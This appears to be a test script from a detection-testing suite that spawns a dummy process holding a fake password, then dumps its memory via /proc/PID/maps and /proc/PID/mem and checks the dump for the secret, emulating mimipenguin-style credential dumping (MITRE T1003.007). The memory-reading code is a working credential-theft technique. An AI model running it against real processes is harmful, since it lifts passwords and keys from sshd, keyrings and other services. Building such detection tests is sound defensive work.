#!/bin/bash
# desc: a process's memory dumped through /proc/PID/mem, region by region from /proc/PID/maps
# (how mimipenguin pulls passwords out of sshd, gnome-keyring, vsftpd)
# mitre: T1003.007
# expect: process_memory_read
source "$ATTACK_LIB"

# The victim: a process holding a "password" in its memory.
/usr/bin/python3 -c 'import time; secret = "hunter2-" * 512; time.sleep(30)' &
victim=$!
undo "kill $victim"
sleep 0.3
/usr/bin/python3 - "$victim" "$ATTACK_TMP/dump" <<'PY'
import re, sys
pid, out = sys.argv[1], sys.argv[2]
with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem, \
        open(out, "wb") as dump:
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
        if not m or "[vvar]" in line:
            continue
        start, end = int(m.group(1), 16), int(m.group(2), 16)
        try:
            mem.seek(start)
            dump.write(mem.read(end - start))
        except (OSError, ValueError, OverflowError):
            pass
PY
grep -q hunter2 "$ATTACK_TMP/dump"
